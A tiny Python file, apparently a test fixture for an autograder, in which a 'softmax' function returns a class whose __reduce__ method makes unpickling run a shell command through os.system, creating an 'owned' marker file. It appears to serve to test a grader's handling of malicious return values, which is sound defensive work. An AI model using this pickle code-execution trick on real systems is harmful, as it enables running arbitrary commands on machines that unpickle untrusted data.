# Return an object that would run code if it were unpickled.
# verdict: wrong kind of value

import os


class Trap:
    def __reduce__(self):
        return os.system, ("touch @COURSE@/owned",)


def softmax(logits):
    return Trap()
